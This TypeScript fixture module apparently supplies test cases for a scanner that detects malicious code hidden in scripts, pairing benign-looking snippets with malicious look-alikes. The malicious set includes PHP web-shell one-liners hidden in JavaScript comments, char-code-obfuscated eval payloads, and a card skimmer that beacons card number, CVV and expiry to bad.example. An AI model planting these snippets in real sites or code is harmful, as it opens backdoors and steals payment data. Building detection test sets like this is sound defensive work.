import type { Named } from './index.ts';

const many = (times: number, make: (index: number) => string, between = ''): string =>
  Array.from({ length: times }, (_, index) => make(index)).join(between);
const pick = (from: readonly string[], index: number): string => from[index % from.length] ?? '';

const COLOURS =
  'red green blue amber coral cyan ivory khaki lilac mauve ochre olive peach plum rose rust sand teal'.split(
    ' ',
  );
const COUNTRIES =
  'AF AX AL DZ AS AD AO AI AQ AG AR AM AW AU AT AZ BS BH BD BB BY BE BZ BJ BM BT BO BQ BA BW BV BR IO BN BG BF BI KH CM CA CV KY CF TD CL CN CX CC CO KM CG CD CK CR CI HR CU CW CY CZ DK DJ DM DO EC EG SV GQ ER EE ET'.split(
    ' ',
  );
const ELEMENTS =
  'Base Body Button Canvas Data Dialog Div Font Form Frame Head Image Input Label Legend Link Map Media Meta Meter'.split(
    ' ',
  );
const SETS = ['utf8', 'big5', 'latin2', 'dec8', 'cp850', 'koi8r', 'swe7', 'ascii', 'hebrew', 'gb2312'];
const SIGN_NAMES =
  'slash star bar left right curly quote point colon comma percent at low a d f i s e u r l t x z plus minus less more tilde'.split(
    ' ',
  );
const zeros = (index: number): string => `AAAAAAA${String.fromCharCode(65 + index)}AAEAQQAB`.repeat(5);

/** Tables, constants and other ordinary contents of scripts, by what they were taken for. */
export const CLEAN_TABLES: Named = {
  'constants that are named after their texts': COLOURS.concat(COLOURS.map((each) => `d${each}`))
    .map((each) => `export const ${each.toUpperCase()}_KIND = '${each}';`)
    .join('\n'),
  'signs of a language by their codes': many(
    60,
    (index) =>
      `const CC_${pick(SIGN_NAMES, index).toUpperCase()}${index} = "${pick([...'/*|(){}[]:;,%@'], index)}".charCodeAt(0);`,
    '\n',
  ),
  'attributes of a drawing': many(
    12,
    (index) =>
      `if(kind===${index})out.push("<g ","x${index}"," x1=\\"",o.x1,"\\" y1=\\"",o.y1,"\\" x2=\\"",o.x2,"\\">\\n");`,
  ),
  'months with an apostrophe': `pick({months:[${many(12, (index) => `"${String.fromCharCode(0x5d0 + index)}'"`, ',')}],days:[${many(36, (index) => `"${String.fromCharCode(0x5d0 + (index % 20))}'"`, ',')}]});`,
  'functions of a database': `const sql={${many(60, (index) => `${pick(COLOURS, index)}${index}:(a)=>a.join("${pick(['), (', ' >= ', 'min(', ') and (', 'not (', 'top(1) '], index)}")`, ',')}};`,
  'sets of characters': `module.exports=[${many(300, (index) => `'${pick(SETS, index * 7)}'`, ',')}];`,
  'directions of characters': `var types=[${many(300, (index) => `'${pick(['L', 'R', 'AN', 'BN', 'NSM', 'ON', 'WS', 'S'], index * 5)}'`, ',')}];`,
  'calls of what a compiler imports': many(70, (index) => `a${index}=(0,b.c${index})();`),
  'what a build makes of its settings': `function f(a){${many(30, (index) => `if("development"!=="production"&&a>${index})warn(a);`)}}`,
  'elements of a page by their names': `const list=[${ELEMENTS.map((each) => `HTML${each}Element`).join(',')}];`,
  'a cipher and what belongs to it': `${many(14, (index) => `const a_chacha20poly1305_${pick(COLOURS, index)}=sodium.a_chacha20poly1305_${pick(COLOURS, index + 1)}();`)}`,
  'formats of a graphics card': `const sizes={${['uint', 'sint', 'float', 'unorm', 'snorm'].map((kind) => [8, 16, 32].map((bits) => `${kind}${bits}x2:2,${kind}${bits}x4:4`).join(',')).join(',')}};`,
  'names that a bundler makes of files': `export{${many(12, (index) => `$${(0x4162_60bc_e337 + index * 0x9e37_79b9).toString(16)}$export$ecd1fc136c4${index + 10}48 as n${index}`, ',')}};`,
  'codes of countries in a text': `check.isin={codes:"${COUNTRIES.join('|')}"};`,
  'a font in lines of base64': `fonts.add([${many(8, (index) => `"${zeros(index)}"`, ',')}]);`,
  'an environment that is asked for': `const host=location.hostname;const e=(()=>{if("undefined"==typeof process||void 0===process.env)return;return process.env.SETTINGS})();const load=(u,b)=>fetch(u,{method:"POST",body:JSON.stringify(b)});const http=require("https");`,
  'a method by the format of a picture': `api.add=function(data,format){var bytes="";for(var i=0;i<data.length;i++)bytes+=String.fromCharCode(data[i]);return this["process"+format.toUpperCase()](bytes);};`,
  'a frame for a preview': `dialog({html:'<div><iframe style="border:0;width:0;height:0" frameborder="0" src="'+editor.plugin.preview()+'"></iframe></div>'});`,
  'two lists that become one': `function merge(a,b,n){var radix=parseInt(n,10);for(var all=[];a.length||b.length;)a.length&&all.push(a.shift()),b.length&&all.push(b.shift());return all;}`,
  'markup as a compiler escapes it': `add({html:'${'\\x3ctd class\\x3d"a"\\x3e\\x26nbsp;\\x3c/td\\x3e'.repeat(8)}'});`,
  'kinds of characters as steps': `var steps=[${many(260, (index) => String([0, 11, 2, 25, 2, 18, 2, 1, 2, 14, 3, 13][index % 12]), ',')}];function at(code){return String.fromCharCode(code+steps[0]);}`,
  'operators of a language as a pattern': `const operators=new RegExp('^(\\\\'+['<<=','>>=','++','--','<<','>>','+=','-=','*=','/=','%=','&=','^^','^=','|=','<=','>=','==','!=','&&','||','(',')','[',']','{','}','.',',',';','!','=','~','*','/','%','+','-','<','>','&','^','|','?',':','#'].join('$').split('').join('\\\\')+')');`,
  'kinds of files': `const types={"docx":"application/vnd.openxmlformats-officedocument.wordprocessingml.document","swf":"application/x-shockwave-flash","jnlp":"application/x-java-jnlp-file","mov":"video/quicktime","rm":"application/vnd.rn-realplayer","vbs":"text/vbscript","xap":"application/x-silverlight-app"};`,
  'a highlighter that knows PHP': `var operator=/<?=>|\\?\\?=?|\\.{3}/;grammar.php=function(a,b){let text='<?php ',rule={pattern:/\`(?:[^\`])*\`/,alias:'command'};return atob(b)("rule",rule,\`\${a}\`);};`,
  'a comment that shows PHP': `/**\n * A parser.\n */\nconst Node = require("./node");\n/**\n * In short:\n * <?php\n * declare(ticks=1):\n * enddeclare;\n * \`$command\`\n */\nNode.MODE = "short";`,
  'drawings by names with a dollar sign': `${many(6, (index) => `name:\`plus-${index}\`,content:\`<path d="M256 32C132.3 ${index} 32 132.3z" />\`,variants:{solid:\`\`}},$${index}n={name:\`a-${index}\`,content:\`<path d="M1 ${index}z"/>\`,variants:{solid:\`\`}},$n={`)}`,
  'colours in a table': `var palette={${many(60, (index) => `${index}:[${many(5, (at) => `"#${['f7fcb9', 'addd8e', '31a354', 'ffffcc', 'c2e699', '78c679', '238443'][(index + at) % 7]}"`, ',')}]`, ',')}};`,
  'drawings with sizes as texts': many(
    30,
    (index) => `add(el("line",{x1:"${index}",y1:"6",x2:"18",y2:"${index + 3}",d:"12"}));`,
  ),
  'characters of a font by their places': `const glyphs=[${many(220, (index) => (index % 3 ? "''" : `'${String.fromCharCode(65 + ((index / 3) % 26))}'`), ',')}];`,
  'codes that are named after themselves': `exports.Country={${COUNTRIES.map((each) => `${each[0]}${each[1]?.toLowerCase()}:"${each}"`).join(',')}};`,
  'states of a machine as a text': `const machine=JSON.parse('{"states":[${many(60, (index) => `[${many(9, (at) => String((index * at) % 30), ',')}]`, ',')}]}');`,
  'the environment of a program that is started': `const os=require("os"),https=require("https"),cp=require("child_process");const name=JSON.stringify({n:os.hostname()});const child=cp.fork(file,[],{execArgv:[],env:process.env,cwd:process.cwd()});`,
  'texts in another alphabet': `globalThis.messages=[${many(120, (index) => `"${many(9, (at) => `\\u${(0x5165 + ((index * 37 + at * 11) % 3000)).toString(16)}`)}"`, ',')}];`,
  'a payment form of a provider': `define(e,"cvcPolicy",{value:n});define(e,"expiryDatePolicy",{value:n});const o={cvv:{value:""},cardNumber:{value:""},expiryMonth:{value:""}};const send=(b)=>fetch(url,{method:"POST",body:JSON.stringify(b)});document.querySelector(".pay");`,
};

/** What hides something in the same forms. */
export const MALICIOUS_TABLES: Named = {
  'a script that names PHP in a text': `var tag=/<?php /;var o={a:1};var c=[${many(30, (index) => String(107 + (index % 9)), ',')}],t="";for(var i=0;i<c.length;i++)t+=String.fromCharCode(c[i]-7);eval(t);`,
  'PHP behind a comment that shows some': `/* <?php $a = 1; ?> */ var a={b:1}; //<?php @eval($_POST['x']); ?>`,
  'PHP in a comment of a script': `var a={b:1};var list=[1,2];\n/* <?php @eval($_POST['x']); ?> */`,
  'PHP before what it does not compile': `var a={b:1};/*<?php @eval($_POST['x']);__halt_compiler(); let b = {}; */`,
  'what runs a text by a name of two pieces': `var t='',c=[${many(30, (index) => String(107 + (index % 9)), ',')}];for(var i=0;i<c.length;i++)t+=String.fromCharCode(c[i]-7);window['ev'+last](t);`,
  'card data read from the fields of a form': `document.querySelector('form').addEventListener('submit',function(){var d={n:document.getElementById('cc_number').value,c:document.getElementById('cvv').value,e:document.getElementById('cc_exp').value};new Image().src='https://bad.example/i?'+btoa(JSON.stringify(d));});`,
  'names of rolled letters and digits': `${many(30, (index) => `var ${pick(['kx', 'Qw', 'zT', 'vb', 'Lp', 'hN'], index)}${(index * 7919) % 97}${pick([...'qzwxvbk'], index)}${(index * 104729) % 89}${pick([...'rtplmnh'], index * 3)}8=${index};`)}${'a=1;'}eval(s);`,
};
